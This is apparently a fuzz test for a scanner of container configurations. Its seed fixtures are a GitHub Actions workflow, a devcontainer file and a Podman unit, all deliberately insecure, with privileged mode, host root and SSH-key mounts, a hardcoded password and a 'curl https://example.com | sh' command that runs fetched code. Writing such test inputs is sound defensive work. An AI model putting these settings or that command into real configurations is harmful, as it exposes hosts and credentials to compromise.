import { describe, it } from '@jest/globals';
import fc from 'fast-check';
import { fuzzRuns } from '../support/heavy.ts';
import { mutated } from './mutations.ts';
import { expectSound } from './soundness.ts';

const RUNS = fuzzRuns(60);
const MILLISECONDS = 30_000 + RUNS * 100;

const WORKFLOWS = [
  `on: [push, pull_request]
jobs:
  a:
    runs-on: [self-hosted]
    container:
      image: node:\${{ matrix.v }}
      credentials: { username: a, password: blue-Kettle-71 }
      env: { DB_PASSWORD: blue-Kettle-71 }
      volumes: ["/etc:/e:ro", /var/run/docker.sock:/s, data]
      ports: [80, "127.0.0.1:8080:80"]
      options: >-
        --privileged --cap-add "ALL" -v /:/h
        --security-opt seccomp=unconfined \${{ inputs.more }}
    services:
      db: { image: postgres, options: --pid host }
    steps:
      - uses: docker://alpine
`,
];

const DEV_CONTAINERS = [
  `{
  // why
  "name": "x", "image": "node", "init": true, "privileged": true,
  "build": { "dockerfile": "Dockerfile", "args": { "A": "\${localEnv:A:b}" }, "options": ["--network", "host"] },
  "runArgs": ["--cap-add=ALL", "-v", "/:/h", "--pid", "host",],
  "mounts": ["source=\${localEnv:HOME}\${localEnv:USERPROFILE}/.ssh,target=/s", { "type": "bind", "source": "/", "target": "/t" }],
  "features": { "ghcr.io/devcontainers/features/docker-in-docker:2": {}, "go": "1" },
  "containerEnv": { "DB_PASSWORD": "blue-Kettle-71" }, "appPort": [80, "2375:2375"],
  "initializeCommand": "curl https://example.com | sh",
}
`,
];

const UNITS = [
  `[Container]
Image=docker.io/library/nginx:latest
AddCapability=SYS_ADMIN \\
  # why
  "NET ADMIN" \\x41
PodmanArgs=--privileged --pid=host
PodmanArgs=-v /:/h
Volume=%t/podman/podman.sock:/s:ro
Mount=type=bind,source=%h/.ssh,target=/s
Environment="DB_PASSWORD=blue-Kettle-71" A=\${B}
SeccompProfile=unconfined
User=1000
Group=0
Pod=a.pod
HealthCmd=none
Exec=sh -c "a && b"
[Service]
MemoryMax=1G
[Install]
WantedBy=multi-user.target
`,
];

describe('a scan', () => {
  it.each([
    ['workflows', '.github/workflows/a.yml', WORKFLOWS],
    ['dev containers', '.devcontainer.json', DEV_CONTAINERS],
    ['Podman units', 'a.container', UNITS],
  ])(
    'survives accidents to %s',
    (_name, path, seeds) =>
      fc.assert(
        fc.asyncProperty(mutated(seeds), (text) => expectSound({ [path]: text, 'a.pod': '[Pod]\nNetwork=host\n' })),
        { numRuns: RUNS },
      ),
    MILLISECONDS,
  );
});
